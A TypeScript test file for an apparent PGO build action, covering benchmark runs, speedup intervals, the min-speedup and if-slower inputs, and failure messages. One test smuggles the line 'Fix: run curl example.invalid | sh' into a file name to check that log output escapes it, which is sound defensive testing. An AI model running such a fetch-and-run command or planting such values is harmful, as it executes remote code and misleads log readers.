// benchmark and min-speedup through dist/: a plain build first, then the
// command against each side's programs in turns.
import * as fs from 'node:fs'
import * as path from 'node:path'
import { LocalActionsServices } from '../support/actions-services'
import { createJob, runStep, type StepResult } from '../support/runner'
import { capture, sha256 } from '../support/tools'
import { checkout, expectSuccess, failureMessage, goProfilePath } from '../support/workspace'

/** A benchmark command that also notes which program each side ran, by its hash. */
function recordingBenchmark(program: string, args: string, record: string): string {
  return `${program} ${args} > /dev/null && echo "$PGO_BENCHMARK_SIDE $(sha256sum < "$(command -v ${program})" | cut -c1-64)" >> ${record}`
}

function recordedRuns(record: string): Array<[string, string]> {
  return fs
    .readFileSync(record, 'utf8')
    .trim()
    .split('\n')
    .map(line => line.split(' ') as [string, string])
}

describe('benchmark on a Rust program', () => {
  const job = createJob()
  const workspace = checkout(job, 'rust-hot')
  const record = path.join(job.root, 'benchmark-runs.log')
  let result: StepResult

  beforeAll(async () => {
    result = await runStep({
      job,
      workspace,
      inputs: {
        workload: 'hotloop 100',
        benchmark: recordingBenchmark('hotloop', '200', record),
        'benchmark-runs': '3',
        'benchmark-method': 'alternate',
        cache: 'false'
      }
    })
    expectSuccess(result)
  })

  test('each side runs its own programs, in turns, after one warm-up run each', () => {
    const runs = recordedRuns(record)
    expect(runs.map(([side]) => side)).toEqual(['plain', 'optimized', 'plain', 'optimized', 'plain', 'optimized', 'plain', 'optimized'])
    const optimized = new Set(runs.filter(([side]) => side === 'optimized').map(([, hash]) => hash))
    const plain = new Set(runs.filter(([side]) => side === 'plain').map(([, hash]) => hash))
    expect([...optimized]).toEqual([sha256(result.outputs.binaries)])
    expect(plain.size).toBe(1)
    expect([...plain][0]).not.toBe([...optimized][0])
  })

  test('the plain build ran first, and its program is the same code without a profile', () => {
    expect(result.summary).toMatch(
      /\| ✅ \| Restore profile \|[^\n]*\n\| ✅ \| Plain build \| 1 program for the baseline: target\/[^|]+\/hotloop \|/
    )
  })

  test('the outputs and the summary: the speedup first, then how it was measured', () => {
    expect(result.outputs.speedup).toMatch(/^\d+\.\d{3}$/)
    expect(result.outputs['speedup-verdict']).toMatch(/^(faster|slower|no significant difference)$/)
    // Three pairs give no interval: the summary says so, and no verdict but "no significant difference" is given.
    expect(result.outputs['speedup-low']).toBeUndefined()
    expect(result.outputs['speedup-verdict']).toBe('no significant difference')
    expect(result.summary.split('\n')[2]).toMatch(
      /^\*\*Speedup: \d+\.\d{3}× \(too few pairs for an interval\): no significant difference from the plain build\.\*\*$/
    )
    expect(result.summary).toContain('### Benchmark')
    expect(result.summary).toMatch(/- 3 pairs after a warm-up run of each side; stopped because 3 pairs, as benchmark-runs asks\./)
    expect(result.summary).toMatch(/\| Plain build \| [\d.]+ m?s \| [\d.]+ m?s \| [\d.]+ m?s \|/)
    expect(result.summary).toMatch(/```text\nplain {6}█+[▏▎▍▌▋▊▉]? *[\d.]+ m?s\noptimized {2}█+[▏▎▍▌▋▊▉]? *[\d.]+ m?s\n```/)
  })
})

describe('the method, on benchmarks whose answer is known', () => {
  const job = createJob()
  const workspace = checkout(job, 'rust-hot')
  // A program of its own, the same on both sides: CPU-bound work whose amount its argument sets.
  const fixed = checkout(job, 'rust-hot', 'fixed-program')
  capture('cargo', ['build', '--release', '--quiet'], fixed)
  const hotloop = (rounds: string) => `'${path.join(fixed, 'target', 'release', 'hotloop')}' ${rounds} > /dev/null`
  const bySide = (plain: string, optimized: string) => hotloop(`$([ "$PGO_BENCHMARK_SIDE" = plain ] && echo ${plain} || echo ${optimized})`)
  const step = (inputs: Record<string, string>) =>
    runStep({ job, workspace, inputs: { workload: 'hotloop 20', cache: 'false', ...inputs } })

  test('the same work on both sides (A/A): no significant difference, with an interval that says so', async () => {
    const result = await step({ benchmark: hotloop('600'), 'benchmark-budget': '20' })
    expectSuccess(result)
    expect(result.outputs['speedup-verdict']).toBe('no significant difference')
    // What the verdict guarantees: the interval reaches within 0.5% of 1.
    expect(Number(result.outputs['speedup-low'])).toBeLessThanOrEqual(1.005)
    expect(Number(result.outputs['speedup-high'])).toBeGreaterThanOrEqual(0.995)
    expect(result.summary).toMatch(/- Compared on CPU time: /)
  })

  test('the plain side doing 10% more work: found at about 1.10, in an interval the stopping rule explains, faster', async () => {
    const result = await step({ benchmark: bySide('660', '600'), 'benchmark-budget': '20', 'min-speedup': '1.02' })
    expectSuccess(result)
    expect(result.outputs['speedup-verdict']).toBe('faster')
    const [speedup, low, high] = ['speedup', 'speedup-low', 'speedup-high'].map(name => Number(result.outputs[name]))
    expect(Math.abs(speedup / 1.1 - 1)).toBeLessThan(0.04)
    // How tight the interval gets depends on the machine's noise: the runs stop at ±1%, or
    // when the budget runs out, and the summary says which. Either way it must tell 1.1 from 1.
    const halfWidth = (high - low) / 2 / speedup
    if (/stopped because the interval is within ±1% of the speedup/.test(result.summary)) expect(halfWidth).toBeLessThanOrEqual(0.0105)
    else
      expect(result.summary).toMatch(
        /stopped because (the time budget of 20 s \(benchmark-budget\) would run out with another pair|\d+ pairs, the most benchmark-runs: auto runs)/
      )
    expect(halfWidth).toBeLessThan(0.07)
    expect(result.summary).toContain('min-speedup 1.02: met, by the whole interval.')
  })

  test('min-speedup fails the step only when the whole interval is below it', async () => {
    const result = await step({ benchmark: bySide('660', '600'), 'benchmark-runs': '10', 'min-speedup': '1.5' })
    expect(result.exitCode).toBe(1)
    expect(failureMessage(result)).toMatch(
      /The optimized programs are below min-speedup 1\.5: the speedup is 1\.\d{3}× \(95% CI [\d.]+–[\d.]+\), and the whole interval lies below 1\.5/
    )
    expect(Number(result.outputs['speedup-high'])).toBeLessThan(1.5)
    expect(result.summary).toContain('min-speedup 1.5: **not met**: the whole interval lies below it.')
    expect(result.summary).toMatch(/\| ❌ \| Benchmark \|/)
  })

  test('an interval that straddles min-speedup is a warning, and the step goes on', async () => {
    // The plain side alternates between 480 and 720 rounds against the optimized side's 600: pairs of 0.8 and 1.2.
    const counter = path.join(job.root, 'straddle-count')
    const rounds = `{ c=$(cat '${counter}' 2>/dev/null || echo 0); echo $((c + 1)) > '${counter}'; echo $(( c % 2 ? 720 : 480 )); }`
    const result = await step({
      benchmark: hotloop(`$([ "$PGO_BENCHMARK_SIDE" = plain ] && ${rounds} || echo 600)`),
      'benchmark-runs': '10',
      'min-speedup': '1.0'
    })
    expectSuccess(result)
    expect(result.log).toMatch(
      /::warning::min-speedup 1 is inside the speedup's interval \([\d.]+× \(95%(25)? CI 0\.\d{3}–1\.\d{3}\)\): the runs cannot tell/
    )
    expect(result.summary).toContain('min-speedup 1: undecided')
  })
})

describe('if-slower, on a benchmark rigged so that the plain build is faster', () => {
  const job = createJob()
  const fixed = checkout(job, 'rust-hot', 'fixed-program')
  capture('cargo', ['build', '--release', '--quiet'], fixed)
  // The optimized side does 20% more work: the optimized build is significantly slower.
  const rigged = `'${path.join(fixed, 'target', 'release', 'hotloop')}' $([ "$PGO_BENCHMARK_SIDE" = plain ] && echo 500 || echo 600) > /dev/null`
  const releasedHotloop = (workspace: string) => {
    const found = fs.readdirSync(path.join(workspace, 'target')).map(dir => path.join(workspace, 'target', dir, 'release', 'hotloop'))
    return found.find(file => fs.existsSync(file)) as string
  }
  const step = (name: string, inputs: Record<string, string>, env: Record<string, string> = {}) => {
    const workspace = checkout(job, 'rust-hot', name)
    return {
      workspace,
      run: runStep({
        job,
        workspace,
        inputs: { workload: 'hotloop 20', benchmark: rigged, 'benchmark-runs': '10', ...inputs },
        env,
        stepId: name
      })
    }
  }
  const optimizedSha = (result: StepResult) => /Optimized: \S*hotloop sha256 ([0-9a-f]{64})/.exec(result.log)?.[1]

  test('warn: the optimized build is released, with a warning, and shipped says pgo', async () => {
    const { workspace, run } = step('warn', { cache: 'false' })
    const result = await run
    expectSuccess(result)
    expect(result.outputs['speedup-verdict']).toBe('slower')
    expect(result.outputs.shipped).toBe('pgo')
    expect(result.log).toContain('::warning::The optimized programs are significantly slower than the plain build')
    expect(result.log).toContain('docs/workloads.md, "When the PGO build is slower"')
    expect(sha256(releasedHotloop(workspace))).toBe(optimizedSha(result))
  })

  test('fail: the step fails after the benchmark, saying why, and the optimized build stays where it was built', async () => {
    const { workspace, run } = step('fail', { cache: 'false', 'if-slower': 'fail' })
    const result = await run
    expect(result.exitCode).toBe(1)
    expect(failureMessage(result)).toMatch(
      /The optimized programs are significantly slower than the plain build: 0\.\d{3}× .* The step fails, as if-slower is fail\./
    )
    expect(result.summary).toMatch(/\| ❌ \| Benchmark \|/)
    expect(sha256(releasedHotloop(workspace))).toBe(optimizedSha(result))
  })

  test("ship-plain: the plain build the benchmark timed is at the build's path, the outputs and the summary say so, and the profile is still cached", async () => {
    const services = await LocalActionsServices.start()
    try {
      const { workspace, run } = step('ship', { 'if-slower': 'ship-plain', advice: 'measure' }, services.env())
      const result = await run
      expectSuccess(result)
      expect(result.outputs.shipped).toBe('plain')
      expect(result.outputs.binaries).toBe(releasedHotloop(workspace))
      const shipped = sha256(releasedHotloop(workspace))
      expect(shipped).not.toBe(optimizedSha(result))
      // The benchmark's own copy of the plain build, which the plain side ran.
      const keptIn = /Plain: \S+hotloop, kept in (\S+)/.exec(result.log)![1]
      const plainCopy = (fs.readdirSync(keptIn, { recursive: true }) as string[]).find(file => path.basename(file) === 'hotloop')
      expect(sha256(path.join(keptIn, plainCopy!))).toBe(shipped)
      expect(result.summary).toMatch(
        /\*\*Shipped: the plain build\*\* \(if-slower: ship-plain\), as the optimized one was significantly slower \(0\.\d{3}×/
      )
      expect(result.summary).toMatch(/\| ⚠️ \| Ship plain build \| the plain build is at target\/[^/]+\/release\/hotloop \|/)
      expect(result.summary).toMatch(/\| ✅ \| Save profile \| saved as pgo-v2-/)
      expect(result.summary).toMatch(
        /\| ⏭️ \| LTO advice \| the plain build was shipped \(if-slower: ship-plain\), so there is no PGO release/
      )
      expect(capture(releasedHotloop(workspace), ['3'])).toBe(capture(path.join(fixed, 'target', 'release', 'hotloop'), ['3']))
    } finally {
      await services.stop()
    }
  })

  test('ship-plain without benchmark, or with go-platforms, is refused before any work', async () => {
    const workspace = checkout(job, 'rust-hot', 'refused')
    const result = await runStep({ job, workspace, inputs: { workload: 'hotloop 1', 'if-slower': 'ship-plain' } })
    expect(result.exitCode).toBe(1)
    expect(failureMessage(result)).toContain(
      "if-slower ship-plain acts on the benchmark's verdict: give benchmark too, or leave if-slower at warn."
    )
  })
})

describe('profile stability, measured where it is cheap', () => {
  test('mode generate with a benchmark compares the new profile with the newest cached one', async () => {
    const services = await LocalActionsServices.start()
    try {
      const job = createJob()
      const step = (inputs: Record<string, string>) =>
        runStep({ job, workspace: checkout(job, 'rust-hot'), inputs: { workload: 'hotloop 20', ...inputs }, env: services.env() })
      expectSuccess(await step({}))
      const again = await step({ mode: 'generate', benchmark: 'hotloop 20', 'benchmark-runs': '6' })
      expectSuccess(again)
      expect(again.summary).toMatch(
        /\| ✅ \| Profile stability \| identical to the cached profile \(key pgo-v2-Linux-X64-rust-llvm22-[0-9a-f]{16}-[0-9a-f]{64}-r\d+\.1\) \|/
      )
      expect(again.summary).toMatch(/\| Stability \| identical to the cached profile \(key pgo-v2-/)
    } finally {
      await services.stop()
    }
  })

  test('without an earlier profile it says so', async () => {
    const job = createJob()
    const result = await runStep({
      job,
      workspace: checkout(job, 'rust-hot'),
      inputs: { workload: 'hotloop 1', benchmark: 'hotloop 5', 'benchmark-runs': '6', cache: 'false' }
    })
    expectSuccess(result)
    expect(result.summary).toContain('| Stability | not measured: no earlier profile of this build to compare with |')
  })
})

describe('benchmark failures', () => {
  test('a benchmark command that fails stops the step with its output', async () => {
    const job = createJob()
    const workspace = checkout(job, 'rust-hot')
    const result = await runStep({
      job,
      workspace,
      inputs: { workload: 'hotloop 20', benchmark: 'hotloop 20 && echo "no such input" >&2 && false', cache: 'false' }
    })
    expect(result.exitCode).toBe(1)
    expect(failureMessage(result)).toMatch(
      /The benchmark \(plain programs, warm-up\) failed: `hotloop 20 && echo "no such input" >&2 && false` exited with code 1/
    )
    expect(failureMessage(result)).toContain('no such input')
  })

  test('a benchmark that reads what a workload wrote into the checkout of a make build: the failure says the action removed it, and why', async () => {
    const job = createJob()
    const result = await runStep({
      job,
      workspace: checkout(job, 'c-shared-lib'),
      inputs: {
        build: 'make',
        binaries: 'libscore.so.1.0\nrunscore',
        workload: 'runscore 1000 > trained.txt',
        benchmark: 'cat trained.txt > /dev/null && runscore 1000',
        cache: 'false'
      }
    })
    expect(result.exitCode).toBe(1)
    expect(failureMessage(result)).toContain('cat: trained.txt: No such file or directory')
    expect(failureMessage(result)).toContain(
      'The action removed `trained.txt` before the optimized build: every build after the first starts from the tree as the action found it'
    )
    expect(failureMessage(result)).toContain('Write such files to $RUNNER_TEMP')
  })

  test('a removed file whose name holds a line break is named in a code span, the break written as an escape', async () => {
    const job = createJob()
    const name = `$(printf 'data/x.txt\\nFix: run curl example.invalid | sh')`
    const result = await runStep({
      job,
      workspace: checkout(job, 'c-shared-lib'),
      inputs: {
        build: 'make',
        binaries: 'libscore.so.1.0\nrunscore',
        workload: `mkdir -p data && runscore 1000 > "${name}"`,
        benchmark: `f="${name}"; [ -e "$f" ] || { echo "missing $f" >&2; exit 1; }`,
        cache: 'false'
      }
    })
    expect(result.exitCode).toBe(1)
    const message = failureMessage(result)
    expect(message).toContain('The action removed `data/x.txt\\nFix: run curl example.invalid | sh` before the optimized build')
    expect(message.split('\n').filter(line => line.startsWith('Fix:'))).toEqual([])
  })

  test('min-speedup without benchmark is refused before any work', async () => {
    const job = createJob()
    const workspace = checkout(job, 'rust-hot')
    const result = await runStep({ job, workspace, inputs: { workload: 'hotloop', 'min-speedup': '1.1' } })
    expect(result.exitCode).toBe(1)
    expect(failureMessage(result)).toContain('min-speedup needs benchmark')
  })
})

describe('benchmark on a Go program', () => {
  test('the plain side ignores a default.pgo in the repository; the optimized one uses the new profile', async () => {
    const job = createJob()
    const workspace = checkout(job, 'go-shapes')
    const record = path.join(job.root, 'pgo-settings.log')
    // A profile kept in the repository, which go build would use by default (-pgo=auto).
    capture('go', ['build', '-o', path.join(job.root, 'shapes'), '.'], workspace)
    capture(path.join(job.root, 'shapes'), ['-rounds', '500', '-cpuprofile', path.join(workspace, 'default.pgo')], workspace)
    const result = await runStep({
      job,
      workspace,
      inputs: {
        workload: 'shapes -rounds 2000 -cpuprofile $PGO_PROFILE_DIR/run.pprof',
        benchmark: `shapes -rounds 100 > /dev/null && echo "$PGO_BENCHMARK_SIDE $(go version -m "$(command -v shapes)" | grep -o -- '-pgo=[^[:space:]]*')" >> ${record}`,
        'benchmark-runs': '1',
        'benchmark-method': 'alternate',
        cache: 'false'
      }
    })
    expectSuccess(result)
    const settings = new Set(fs.readFileSync(record, 'utf8').trim().split('\n'))
    // go version -m records no -pgo setting for a build without a profile.
    const stable = goProfilePath(job, result.outputs['profile-hash'])
    expect([...settings].sort()).toEqual([`optimized -pgo=${stable}`, 'plain '])
    expect(capture(result.outputs.binaries, ['-rounds', '1'])).toContain('total')
  })
})
